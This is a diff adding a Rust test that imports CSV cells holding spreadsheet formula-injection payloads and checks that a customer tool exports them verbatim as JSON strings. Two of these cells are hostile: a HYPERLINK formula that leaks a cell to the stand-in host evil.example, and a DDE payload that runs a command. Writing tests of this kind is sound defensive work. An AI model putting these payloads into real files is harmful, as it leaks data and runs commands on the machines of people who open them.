@@ -558,3 +558,86 @@ fn huge_urls_headers_bodies_and_garbage_are_refused_and_the_daemon_keeps_answeri
     assert_eq!(show(&env, "A"), before);
     daemon.0.kill().unwrap();
 }
+
+// ------------------------------------------------------ formula injection
+
+#[test]
+fn spreadsheet_formulas_in_imported_cells_are_kept_verbatim_and_exported_as_plain_json_strings() {
+    let dir = tempfile::tempdir().unwrap();
+    let url = format!("sqlite://{}/outreach.db", dir.path().display());
+    let env = Env::in_dir(dir, &url, CONFIG);
+    // Cells a spreadsheet would evaluate: = + - @, a DDE payload, quotes and
+    // commas inside (CSV-quoted), and a phone number that rightly starts with +.
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?leak="&A1,"Klick")"#;
+    let dde = "=cmd|' /C calc'!A0";
+    let rows = [
+        (
+            "F1",
+            "f1@example.de",
+            hyperlink,
+            "+1+1",
+            "+49 221 555 100",
+            "=1+1;@SUM(A1)",
+        ),
+        (
+            "F2",
+            "f2@example.de",
+            "+SUM(A1:A9)",
+            "-2+3",
+            "+43 1 234",
+            "-x",
+        ),
+        (
+            "F3",
+            "f3@example.de",
+            "-Anna",
+            "@SUM(1,2)",
+            "+41 44 000",
+            "+1",
+        ),
+        ("F4", "f4@example.de", "@Bertram", dde, "+1 555 0100", "@"),
+    ];
+    let quote = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
+    let mut csv = String::from("external_id,email,name,consent,notiz,phone,tags\n");
+    for (id, email, name, notiz, phone, tags) in rows {
+        csv.push_str(&format!(
+            "{id},{email},{},yes,{},{},{}\n",
+            quote(name),
+            quote(notiz),
+            quote(phone),
+            quote(tags)
+        ));
+    }
+    let path = env.write("formulas.csv", &csv);
+    let out = env.run(&["import", "customers", path.to_str().unwrap()]);
+    assert!(out.status.success(), "{}{}", stdout(&out), stderr(&out));
+    assert!(stdout(&out).contains("imported 4,"), "{}", stdout(&out));
+    for (id, email, name, notiz, phone, tags) in rows {
+        let out = env.run(&["customers", "export", id]);
+        assert!(out.status.success(), "{id}: {}", stderr(&out));
+        // Valid JSON, and each value a JSON string exactly as imported.
+        let doc: serde_json::Value = serde_json::from_slice(&out.stdout)
+            .unwrap_or_else(|e| panic!("{id}: export is not JSON: {e}\n{}", stdout(&out)));
+        let c = &doc["customer"];
+        assert_eq!(c["email"], email, "{id}: {c}");
+        assert_eq!(c["name"], serde_json::json!(name), "{id}: {c}");
+        assert_eq!(c["phone"], serde_json::json!(phone), "{id}: {c}");
+        assert_eq!(
+            c["attributes"]["notiz"],
+            serde_json::json!(notiz),
+            "{id}: {c}"
+        );
+        let want: Vec<&str> = tags.split(';').collect();
+        assert_eq!(c["tags"], serde_json::json!(want), "{id}: {c}");
+        // Nothing added in front (no ' or tab: that would change the data).
+        let text = stdout(&out);
+        assert!(
+            text.contains(&serde_json::to_string(name).unwrap()),
+            "{id}: {text}"
+        );
+        // The human-readable view prints the same text.
+        let shown = env.run(&["customers", "show", id]);
+        assert!(shown.status.success(), "{}", stderr(&shown));
+        assert!(stdout(&shown).contains(name), "{id}: {}", stdout(&shown));
+    }
+}
